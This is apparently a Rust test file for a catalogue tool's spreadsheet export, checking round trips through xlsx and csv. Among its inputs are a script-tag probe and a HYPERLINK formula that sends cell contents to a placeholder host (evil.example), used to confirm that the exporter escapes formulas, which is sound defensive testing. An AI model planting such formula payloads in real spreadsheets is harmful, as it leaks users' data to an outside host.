//! `etalase export`: the sample catalogue and a synthetic 1,000-product one are exported by the
//! real binary, read back with calamine and csv, and imported into the same catalogue with
//! `--dry-run`, which must find nothing to change.

use std::fs;
use std::path::{Path, PathBuf};

use calamine::{open_workbook_auto, Reader};

use crate::common::{copy_tree, etalase, repo_root, Catalogue, Run};

/// The sample catalogue (catalogue.yaml and content/) in a temporary folder.
fn sample() -> Catalogue {
    let catalogue = Catalogue::empty();
    fs::copy(
        repo_root().join("catalogue.yaml"),
        catalogue.path("catalogue.yaml"),
    )
    .unwrap();
    copy_tree(&repo_root().join("content"), &catalogue.path("content"));
    catalogue
}

fn export(catalogue: &Catalogue, file: &Path, extra: &[&str]) -> Run {
    let mut args = vec!["export".to_owned(), file.display().to_string()];
    args.extend(["--root".to_owned(), catalogue.root().display().to_string()]);
    args.extend(extra.iter().map(|a| a.to_string()));
    etalase(args)
}

fn dry_run_import(catalogue: &Catalogue, file: &Path) -> Run {
    etalase([
        "import".to_owned(),
        file.display().to_string(),
        "--root".to_owned(),
        catalogue.root().display().to_string(),
        "--dry-run".to_owned(),
    ])
}

/// The folder beside the catalogue the spreadsheets go in.
fn out(catalogue: &Catalogue, name: &str) -> PathBuf {
    let folder = catalogue.parent().join("out");
    fs::create_dir_all(&folder).unwrap();
    folder.join(name)
}

/// Every sheet of a workbook: name and rows of text.
fn sheets(file: &Path) -> Vec<(String, Vec<Vec<String>>)> {
    let mut workbook = open_workbook_auto(file).unwrap();
    let names = workbook.sheet_names().to_vec();
    names
        .into_iter()
        .map(|name| {
            let range = workbook.worksheet_range(&name).unwrap();
            let rows = range
                .rows()
                .map(|row| row.iter().map(|cell| cell.to_string()).collect())
                .collect();
            (name, rows)
        })
        .collect()
}

fn unchanged_line(count: usize) -> String {
    format!("dry run, nothing written: 0 would be created, 0 updated, {count} unchanged, 0 hand edits to keep or overwrite, 0 errors, rows that would not be imported: 0")
}

/// A product's cell by its column's header.
fn cell<'r>(rows: &'r [Vec<String>], slug: &str, header: &str) -> &'r str {
    let column = rows[0].iter().position(|h| h == header).unwrap();
    let row = rows.iter().find(|row| row[0] == slug).unwrap();
    row.get(column).map_or("", String::as_str)
}

#[test]
fn the_sample_exports_to_the_import_layout_and_imports_back_unchanged() {
    let catalogue = sample();
    let file = out(&catalogue, "katalog.xlsx");
    let run = export(&catalogue, &file, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stderr.contains("exported 10 producers and 27 products"),
        "{}",
        run.stderr
    );

    let sheets = sheets(&file);
    let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["Petunjuk", "Usaha", "Produk", "Kurasi"]);
    let products = &sheets[2].1;
    assert_eq!(
        products[0][..8],
        [
            "slug",
            "nama_id",
            "nama_en",
            "nama_usaha",
            "kategori",
            "kode_produk",
            "barcode",
            "harga"
        ]
    );
    assert_eq!(
        products[0].len(),
        etalase::import::columns::PRODUCT_COLUMNS.len()
    );
    assert_eq!(
        sheets[3].1,
        [etalase::import::layout::headers(
            etalase::import::columns::SheetKind::Curation
        )]
    );
    let jahe = "jahe-merah-instan";
    assert_eq!(cell(products, jahe, "harga"), "Rp 28.000");
    assert_eq!(cell(products, jahe, "kode_produk"), "RT-JMI-250");
    assert_eq!(cell(products, jahe, "barcode"), "8997002123450");
    assert_eq!(
        cell(products, jahe, "sertifikasi"),
        "halal: ID35110000231470125; pirt: 2123576030528-30"
    );
    assert_eq!(cell(products, jahe, "tanggal_kurasi"), "2025-04-21");
    assert_eq!(
        cell(products, jahe, "foto"),
        "produk/jahe-merah-instan/utama.jpg, produk/jahe-merah-instan/seduh.jpg"
    );
    assert_eq!(
        cell(products, "arca-harihara-kuningan", "harga"),
        "1.500.000 - 5.000.000"
    );
    assert_eq!(
        cell(products, "arca-harihara-kuningan", "lama_pesan_hari"),
        "30"
    );
    assert!(file
        .parent()
        .unwrap()
        .join("foto/produk/jahe-merah-instan/seduh.jpg")
        .is_file());

    let before = crate::common::snapshot(&catalogue.path("content"));
    let import = dry_run_import(&catalogue, &file);
    assert_eq!(import.code, 0, "{}", import.stderr);
    assert_eq!(import.stderr.trim(), unchanged_line(37));
    assert_eq!(crate::common::snapshot(&catalogue.path("content")), before);
}

/// A catalogue of `products` products of 40 producers, every field the sheets have filled in
/// one way or another.
fn synthetic(products: usize) -> Catalogue {
    let catalogue = Catalogue::empty();
    // The sample's settings (its categories batik and makanan-minuman), none of its entries.
    fs::copy(
        repo_root().join("catalogue.yaml"),
        catalogue.path("catalogue.yaml"),
    )
    .unwrap();
    for p in 0..40 {
        catalogue.write(
            &format!("content/producers/usaha-{p}/producer.yaml"),
            format!("name: Usaha {p}\nkind: {}\naddress: Jl. Uji {p}, Mojokerto\nwhatsapp: \"+62812000{p:04}\"\nfounded: {}\nshops:\n  tokopedia: https://www.tokopedia.com/usaha{p}\n", if p % 2 == 0 { "ukm" } else { "ikm" }, 1990 + p),
        );
        catalogue.write(
            &format!("content/producers/usaha-{p}/id.md"),
            format!("Cerita usaha {p}.\n\nParagraf kedua, dengan *tekanan*.\n"),
        );
    }
    for i in 0..products {
        let price = match i % 3 {
            0 => format!("{{ amount: {} }}", 1000 * (i + 1)),
            1 => format!("{{ min: {}, max: {} }}", 500 * (i + 1), 2000 * (i + 1)),
            _ => "{ amount: 999 }".to_owned(),
        };
        let availability = match i % 3 {
            0 => "{ status: siap }".to_owned(),
            1 => format!("{{ status: pesan, lead_days: {} }}", i % 30 + 1),
            _ => "{ status: habis }".to_owned(),
        };
        let curation = if i % 4 == 0 {
            format!(
                "curation:\n  status: lolos\n  curator: Kurator {}\n  date: 2025-0{}-1{}\n",
                i % 3,
                i % 9 + 1,
                i % 10
            )
        } else {
            String::new()
        };
        // Product codes and barcodes on half the products: quoted, as docs/content.md asks,
        // or written as bare numbers, which are text all the same.
        let identifiers = match i % 4 {
            0 => format!("sku: P-{i:04}\ngtin: \"8991234567891\"\n"),
            2 => format!("sku: {i}\ngtin: 4006381333931\n"),
            _ => String::new(),
        };
        let yaml = format!(
            "name: {{ id: Produk {i}, en: Product {i} }}\nproducer: usaha-{}\ncategory: {}\n{identifiers}price: {price}\nunit: {{ id: buah, en: piece }}\nmin_order: {}\navailability: {availability}\ntags: [tag-{}, umum]\ncertifications:\n  - {{ type: halal, number: \"ID{i:08}\" }}\n  - {{ type: sni }}\nfeatured: {}\n{curation}",
            i % 40,
            if i % 2 == 0 { "batik" } else { "makanan-minuman" },
            i % 7 + 1,
            i % 13,
            i % 5 == 0,
        );
        catalogue.write(&format!("content/products/produk-{i}/product.yaml"), yaml);
        catalogue.write(
            &format!("content/products/produk-{i}/id.md"),
            format!("Deskripsi produk {i}.\n"),
        );
        catalogue.write(
            &format!("content/products/produk-{i}/en.md"),
            format!("Product {i}, described.\n"),
        );
    }
    catalogue
}

#[test]
fn a_thousand_products_export_and_import_back_unchanged() {
    let catalogue = synthetic(1000);
    let file = out(&catalogue, "semua.xlsx");
    let run = export(&catalogue, &file, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let products = &sheets(&file)[2].1;
    assert_eq!(products.len(), 1001);
    assert_eq!(cell(products, "produk-1", "harga"), "1.000 - 4.000");
    assert_eq!(cell(products, "produk-0", "unggulan"), "ya");
    assert_eq!(cell(products, "produk-0", "kode_produk"), "P-0000");
    assert_eq!(cell(products, "produk-0", "barcode"), "8991234567891");
    assert_eq!(cell(products, "produk-2", "kode_produk"), "2");
    assert_eq!(cell(products, "produk-2", "barcode"), "4006381333931");
    let import = dry_run_import(&catalogue, &file);
    assert_eq!(import.code, 0, "{}", import.stderr);
    assert_eq!(import.stderr.trim(), unchanged_line(1040));
}

#[test]
fn csv_output_writes_one_file_per_sheet_that_imports_back_unchanged() {
    let catalogue = sample();
    let file = out(&catalogue, "katalog.csv");
    let run = export(&catalogue, &file, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let folder = file.parent().unwrap();
    for name in ["usaha.csv", "produk.csv", "kurasi.csv"] {
        let mut reader = csv::Reader::from_path(folder.join(name)).unwrap();
        let headers = reader.headers().unwrap().clone();
        assert!(!headers.is_empty(), "{name}");
    }
    let mut products = csv::Reader::from_path(folder.join("produk.csv")).unwrap();
    assert_eq!(products.records().count(), 27);
    for name in ["usaha.csv", "produk.csv"] {
        let import = dry_run_import(&catalogue, &folder.join(name));
        assert_eq!(import.code, 0, "{name}: {}", import.stderr);
        assert!(
            import.stderr.contains(" 0 updated, "),
            "{name}: {}",
            import.stderr
        );
        assert!(
            import.stderr.contains(" 0 would be created, "),
            "{name}: {}",
            import.stderr
        );
    }
}

#[test]
fn a_selection_exports_its_products_and_their_producers_only() {
    let catalogue = sample();
    let file = out(&catalogue, "bali.xlsx");
    let run = export(&catalogue, &file, &["--selection", "keranjang-bali"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sheets = sheets(&file);
    let products = &sheets[2].1[1..];
    assert!(!products.is_empty());
    assert!(products.len() < 27);
    let curator = sheets[2].1[0].iter().position(|h| h == "kurator").unwrap();
    let status = sheets[2].1[0]
        .iter()
        .position(|h| h == "status_kurasi")
        .unwrap();
    for row in products {
        assert_eq!(
            (row[curator].as_str(), row[status].as_str()),
            ("The Keranjang Bali", "lolos")
        );
    }
    let producer = sheets[2].1[0]
        .iter()
        .position(|h| h == "nama_usaha")
        .unwrap();
    let mut wanted: Vec<&str> = products.iter().map(|r| r[producer].as_str()).collect();
    wanted.sort();
    wanted.dedup();
    let exported: Vec<&str> = sheets[1].1[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(exported, wanted);
    let import = dry_run_import(&catalogue, &file);
    assert_eq!(import.code, 0, "{}", import.stderr);
    assert!(import.stderr.contains(" 0 updated, "), "{}", import.stderr);
}

#[test]
fn an_unknown_selection_is_a_usage_error_naming_the_valid_ones() {
    let catalogue = sample();
    let file = out(&catalogue, "x.xlsx");
    let run = export(&catalogue, &file, &["--selection", "nope"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("nope"), "{}", run.stderr);
    assert!(run.stderr.contains("keranjang-bali"), "{}", run.stderr);
    assert!(!file.exists());
}

#[test]
fn an_existing_file_is_replaced_and_a_failed_export_leaves_it_intact() {
    let catalogue = sample();
    let file = out(&catalogue, "katalog.xlsx");
    fs::write(&file, b"old").unwrap();
    let run = export(&catalogue, &file, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(sheets(&file).len(), 4);
    // The same catalogue exports to the same bytes.
    let first = fs::read(&file).unwrap();
    assert_eq!(export(&catalogue, &file, &[]).code, 0);
    assert_eq!(fs::read(&file).unwrap(), first);

    // A file in a folder that cannot be written: the old one stays, no half file beside it.
    let locked = catalogue.parent().join("locked");
    fs::create_dir_all(&locked).unwrap();
    let kept = locked.join("katalog.xlsx");
    fs::write(&kept, b"old").unwrap();
    let mut permissions = fs::metadata(&locked).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o555);
    fs::set_permissions(&locked, permissions.clone()).unwrap();
    let run = export(&catalogue, &kept, &[]);
    std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o755);
    fs::set_permissions(&locked, permissions).unwrap();
    if run.code == 0 {
        // Running as root: permissions do not stop writing; nothing to check.
        return;
    }
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("katalog.xlsx"), "{}", run.stderr);
    assert_eq!(fs::read(&kept).unwrap(), b"old");
    let names: Vec<_> = fs::read_dir(&locked)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, [std::ffi::OsString::from("katalog.xlsx")]);
}

#[test]
fn quotes_commas_and_line_breaks_survive_csv_and_xlsx() {
    let catalogue = sample();
    let yaml = "content/producers/batik-sekar-jagad/producer.yaml";
    let text = catalogue.read(yaml);
    let first = text
        .lines()
        .find(|l| l.starts_with("name:"))
        .unwrap()
        .to_owned();
    catalogue.replace(yaml, &first, "name: 'Batik \"Sekar\", Jagad =1+1'");
    catalogue.write(
        "content/producers/batik-sekar-jagad/id.md",
        "Baris satu; \"kutip\", koma.\n\n<script>alert(1)</script>\n",
    );
    for name in ["katalog.xlsx", "katalog.csv"] {
        let file = out(&catalogue, name);
        let run = export(&catalogue, &file, &[]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let sheet = if name.ends_with(".csv") {
            file.parent().unwrap().join("usaha.csv")
        } else {
            file.clone()
        };
        let import = dry_run_import(&catalogue, &sheet);
        assert_eq!(import.code, 0, "{name}: {}", import.stderr);
        assert!(
            import.stderr.contains(" 0 updated, "),
            "{name}: {}",
            import.stderr
        );
        assert!(
            !import.stderr.contains("warning"),
            "{name}: {}",
            import.stderr
        );
    }
    let mut usaha = csv::Reader::from_path(out(&catalogue, "usaha.csv")).unwrap();
    let row = usaha
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == "batik-sekar-jagad")
        .unwrap();
    assert_eq!(&row[1], "Batik \"Sekar\", Jagad =1+1");
}

/// The csv row of `slug` in `file`, by header.
fn csv_row(file: &Path, slug: &str) -> std::collections::BTreeMap<String, String> {
    let mut reader = csv::Reader::from_path(file).unwrap();
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(Result::unwrap)
        .find(|record| &record[0] == slug)
        .map(|record| {
            headers
                .iter()
                .map(str::to_owned)
                .zip(record.iter().map(str::to_owned))
                .collect()
        })
        .unwrap_or_else(|| panic!("no row {slug} in {}", file.display()))
}

#[test]
fn csv_cells_that_would_run_as_formulas_are_guarded_and_import_back_exactly() {
    let catalogue = sample();
    let product = "content/products/batik-tulis-surya-majapahit/product.yaml";
    let formula = "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Klik\")";
    catalogue.replace(
        product,
        "name: { id: Batik Tulis Surya Majapahit,",
        &format!("name: {{ id: {},", crate::common::quoted(formula)),
    );
    catalogue.replace(product, "sku: BSJ-TLS-SM01", "sku: \"@SUM(1+1)\"");
    catalogue.replace(
        product,
        "unit: { id: lembar, en: piece }",
        "unit: { id: \"-lembar\", en: \"'=piece\" }",
    );
    let file = out(&catalogue, "katalog.csv");
    let run = export(&catalogue, &file, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let folder = file.parent().unwrap();

    let row = csv_row(&folder.join("produk.csv"), "batik-tulis-surya-majapahit");
    assert_eq!(row["nama_id"], format!("'{formula}"));
    assert_eq!(row["kode_produk"], "'@SUM(1+1)");
    assert_eq!(row["satuan_id"], "'-lembar");
    // Text that starts with an apostrophe before a formula keeps it, behind a guard of its own.
    assert_eq!(row["satuan_en"], "''=piece");
    // Text and numbers that are no formula are written as they are.
    assert_eq!(row["nama_en"], "Surya Majapahit Hand-drawn Batik");
    assert_eq!(row["min_order"], "3");
    assert_eq!(row["harga"], "350.000 - 750.000");
    // Phone numbers are the common case: `+62…` would become a number in a spreadsheet.
    let producer = csv_row(&folder.join("usaha.csv"), "batik-sekar-jagad");
    assert_eq!(producer["whatsapp"], "'+6281200000101");

    for name in ["usaha.csv", "produk.csv"] {
        let import = dry_run_import(&catalogue, &folder.join(name));
        assert_eq!(import.code, 0, "{name}: {}", import.stderr);
        assert!(
            import.stderr.contains(" 0 would be created, 0 updated, "),
            "{name}: {}",
            import.stderr
        );
        assert!(
            !import.stderr.contains("warning"),
            "{name}: {}",
            import.stderr
        );
    }
    // Imported into a catalogue without the product, the row gives back exactly what was typed.
    let fresh = sample();
    fs::remove_dir_all(fresh.path("content/products/batik-tulis-surya-majapahit")).unwrap();
    let import = etalase([
        "import".to_owned(),
        folder.join("produk.csv").display().to_string(),
        "--root".to_owned(),
        fresh.root().display().to_string(),
    ]);
    assert_eq!(import.code, 0, "{}", import.stderr);
    let written = fresh.read(product);
    let yaml: serde_json::Value = serde_saphyr::from_str(&written).unwrap();
    assert_eq!(yaml["name"]["id"], formula, "{written}");
    assert_eq!(yaml["sku"], "@SUM(1+1)");
    assert_eq!(yaml["unit"]["id"], "-lembar");
    assert_eq!(yaml["unit"]["en"], "'=piece");
}
